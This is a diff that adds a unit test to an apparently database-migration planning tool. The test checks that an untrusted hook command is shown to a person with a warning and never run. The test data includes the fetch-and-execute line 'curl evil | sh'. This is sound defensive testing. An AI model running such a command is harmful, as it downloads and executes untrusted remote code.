@@ -402,6 +402,14 @@ def test_checkpoints_are_written_before_the_last_warm_pass_and_before_the_stop()
         assert not any("checkpoint" in each.title for each in plan(cluster_without).steps)
 
 
+def test_a_command_from_elsewhere_is_shown_and_left_to_a_person() -> None:
+    hook = HookCommand(Hook.STOP_APPLICATIONS, "workstation", "curl evil | sh", from_elsewhere=True)
+    made = hooked(hook, replace(hook, hook=Hook.MOVE_ADDRESS))
+    assert not any("evil" in word for each in made.steps for word in (each.call, *each.native))
+    assert step(made, "stop the applications").by_person
+    assert [each for each in made.warnings if "not recorded by you, and is not run: curl evil | sh" in each]
+
+
 def test_hooks_take_the_place_of_what_people_do() -> None:
     made = hooked(
         HookCommand(Hook.TELL_POOLER, "new", "pgbouncer-lead new", "pooler"),
